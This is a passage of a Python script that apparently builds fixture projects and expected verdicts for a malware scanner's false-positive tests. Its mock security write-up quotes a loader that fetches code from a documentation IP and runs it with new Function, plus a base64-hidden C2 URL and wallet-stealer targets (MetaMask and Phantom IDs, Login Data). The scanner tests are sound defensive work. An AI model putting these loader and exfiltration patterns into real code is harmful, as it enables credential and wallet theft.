w(f'{n}/src/wallets.ts', '''export const WALLETS = [
  { name: "MetaMask", url: "https://chromewebstore.google.com/detail/metamask/nkbihfbeogaeaoehlefnkodbefgpgknn" },
  { name: "Phantom", url: "https://chromewebstore.google.com/detail/phantom/bfnaelmomeimhlpmgjnjophhpkkoljpa" },
  { name: "TronLink", url: "https://chromewebstore.google.com/detail/tronlink/ibnejdfjmmkpcnlpebklmnkoeoihofec" },
  { name: "Binance Wallet", url: "https://chromewebstore.google.com/detail/binance-wallet/fhbohimaelbohpjbbldcngcnapndodjp" },
];
export async function balance(rpc: string, address: string) {
  const r = await fetch(rpc, { method: "POST", body: JSON.stringify({ method: "eth_getBalance", params: [address, "latest"] }) });
  return (await r.json()).result;
}
''')
w(f'{n}/hardhat.config.js', '''require("@nomicfoundation/hardhat-toolbox");
module.exports = {
  solidity: "0.8.24",
  networks: { bsc: { url: "https://bsc-dataseed.binance.org", accounts: process.env.PRIVATE_KEY ? [process.env.PRIVATE_KEY] : [] } },
};
''')
w(f'{n}/vite.config.ts', 'import { defineConfig } from "vite";\nexport default defineConfig({ server: { port: 5173 } });\n')
rows.append((n,'pass-or-warn','dApp: wallet ids only as web-store links, public RPC hosts in chain config and hardhat networks'))

n='benign-ml-python'
w(f'{n}/requirements.txt', 'scikit-learn==1.5.0\nrequests==2.32.3\nPyYAML==6.0.1\n')
w(f'{n}/predict.py', '''import pickle
import yaml
import requests

with open("models/classifier.pkl", "rb") as fh:
    model = pickle.load(fh)

with open("config.yaml") as fh:
    cfg = yaml.safe_load(fh)

def fetch_features(symbol):
    return requests.get(f"https://api.example.com/features/{symbol}", timeout=10).json()

def main():
    print(model.predict([fetch_features("BTC")]))

if __name__ == "__main__":
    main()
''')
w(f'{n}/setup.py', 'from setuptools import setup, find_packages\nsetup(name="predictor", version="0.1.0", packages=find_packages())\n')
rows.append((n,'pass-or-warn','pickle.load of a local model, yaml.safe_load, requests inside functions, plain setup.py'))

n='benign-security-writeup'
w(f'{n}/README.md', '''# Notes on the "take-home test" lures

Loaders fetch from `http://203.0.113.7:1224/pdown` and run the body with
`new Function("require", body)(require)`. PolinRider appends `global['!']='8-905-1'` to `tailwind.config.js`.
Stealers target MetaMask (`nkbihfbeogaeaoehlefnkodbefgpgknn`) and Phantom (`bfnaelmomeimhlpmgjnjophhpkkoljpa`)
under `Local Extension Settings` and `Login Data`, then POST to `/uploads` with FormData.
Config values like `DEV_API_KEY=aHR0cDovLzIwMy4wLjExMy43OjEyMjQvcGRvd24=` hide the C2.
''')
w(f'{n}/docs/iocs.md', '| indicator | note |\n|---|---|\n| 198.51.100.23:1224 | BeaverTail |\n| auth-confirm-ten.vercel.app | PolinRider |\n')
rows.append((n,'pass-or-warn','security write-up quoting IOCs, wallet ids and loader code in Markdown only'))

n='benign-vm-tests'
w(f'{n}/package.json', pkg('expr-sandbox', main='src/index.js', scripts={"test":"mocha"}))
w(f'{n}/src/index.js', '''const vm = require("vm");
function evaluate(expr, vars) {
  return vm.runInNewContext(expr, { ...vars }, { timeout: 50 });
}
module.exports = { evaluate };
''')
w(f'{n}/test/index.test.js', '''const vm = require("vm");
const assert = require("assert");
const { evaluate } = require("../src");
it("adds", () => assert.equal(evaluate("a + b", { a: 1, b: 2 }), 3));
it("sandbox", () => assert.equal(vm.runInThisContext("1 + 1"), 2));
it("function", () => assert.equal(new Function("a", "return a * 2")(2), 4));
''')
rows.append((n,'pass-or-warn','vm.runInNewContext of user expressions and tests that use vm and Function on literals'))

tsv = os.path.join(R, 'expectations.tsv')
ours = {r[0] for r in rows}
lines = open(tsv).read().splitlines()
with open(tsv, 'w') as fh:
    fh.write('\n'.join(l for l in lines if l.split('\t')[0] not in ours) + '\n')
    for r in rows:
        fh.write('\t'.join(r) + '\n')
